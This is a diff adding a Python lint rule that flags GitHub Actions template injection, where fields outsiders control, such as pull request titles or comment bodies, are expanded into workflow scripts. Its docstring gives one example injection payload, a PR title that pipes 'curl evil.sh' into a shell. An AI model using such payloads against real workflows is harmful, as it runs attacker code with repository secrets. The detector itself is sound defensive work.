@@ -1,0 +1,117 @@
+"""untrusted-input: attacker-controlled event fields expanded into scripts (template injection)."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from actiongen.findings import Severity
+from actiongen.model.expressions import find_expressions
+from actiongen.model.flow import Flow, output_flows
+from actiongen.rules._hygiene import script_inputs, steps_of
+from actiongen.rules.base import Context, Rule
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from actiongen.findings import Finding
+
+_AUTHOR = ("message", "author.name", "author.email", "committer.name", "committer.email")
+
+#: Event fields anyone who can open an issue, comment, push a branch to a fork or name a
+#: commit can set to arbitrary text (GitHub Security Lab's list, as used by actionlint
+#: and zizmor).  ``*`` stands for any array index.
+UNTRUSTED: tuple[str, ...] = (
+    "github.head_ref",
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.display_title",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.event.check_suite.head_branch",
+    "github.event.check_run.check_suite.head_branch",
+    *(f"github.event.commits.*.{f}" for f in _AUTHOR),
+    *(f"github.event.head_commit.{f}" for f in _AUTHOR),
+    *(f"github.event.workflow_run.head_commit.{f}" for f in _AUTHOR),
+    *(f"github.event.merge_group.head_commit.{f}" for f in _AUTHOR),
+)
+
+
+def untrusted_field(flow: Flow) -> str | None:
+    """The untrusted field ``flow`` carries into the result, or None.
+
+    A plain object (``${{ github.event.pull_request }}``) renders as the word
+    ``Object``; only through ``toJSON`` does its content reach the text.
+    """
+    for pattern in UNTRUSTED:
+        if flow.reaches(pattern):
+            return flow.path if not flow.whole else f"toJSON({flow.path})"
+    return None
+
+
+class UntrustedInput(Rule):
+    """
+    ## What it does
+    Reports event fields that outsiders control—pull request titles, bodies and branch
+    names, issue and comment bodies, commit messages and author names, `github.head_ref`,
+    and the like—expanded with `${{ }}` into a `run:` script or into the `script:` of
+    `actions/github-script`, in workflows and composite actions. Expressions whose result
+    is not the field's text (`${{ contains(github.event.issue.title, 'bug') }}`) are not
+    reported.
+
+    ## Why is this bad?
+    GitHub substitutes the text into the script before the shell (or Node) runs it, so the
+    text becomes code. A pull request titled `"; curl evil.sh | sh; echo "` runs the
+    attacker's commands with the workflow's token and secrets. This is *template
+    injection*, the most common GitHub Actions vulnerability.
+
+    ## Example
+    ```yaml
+        - run: echo "Title: ${{ github.event.pull_request.title }}"
+    ```
+
+    ## Use instead
+    Pass the value through an environment variable and quote it; the shell then treats it
+    as data:
+    ```yaml
+        - run: echo "Title: $TITLE"
+          env:
+            TITLE: ${{ github.event.pull_request.title }}
+    ```
+    """
+
+    id = "untrusted-input"
+    severity = Severity.ERROR
+    summary = "an attacker-controlled event field is expanded into a script"
+    applies_to = frozenset({"workflow", "action"})
+
+    def check(self, ctx: Context) -> Iterator[Finding]:
+        for job, step in steps_of(ctx):
+            for scalar, where in script_inputs(step):
+                for expr in find_expressions(ctx.doc, scalar):
+                    fields = sorted(
+                        {f for flow in output_flows(expr.text) if (f := untrusted_field(flow))}
+                    )
+                    if not fields:
+                        continue
+                    shown = ", ".join(f"`{f}`" for f in fields)
+                    var = fields[0].rsplit(".", 1)[-1].strip(")").upper().replace("-", "_")
+                    use = f"process.env.{var}" if scalar is not step.run else f'"${var}"'
+                    yield self.finding(
+                        ctx, expr.span,
+                        f"text outsiders control ({shown}) is expanded into the {where}: "
+                        "crafted text runs as code (template injection)",
+                        f"pass it through `env:` (`{var}: ${{{{ {expr.text} }}}}`) and use "
+                        f"{use} in the script",
+                        job=job, step=step,
+                    )
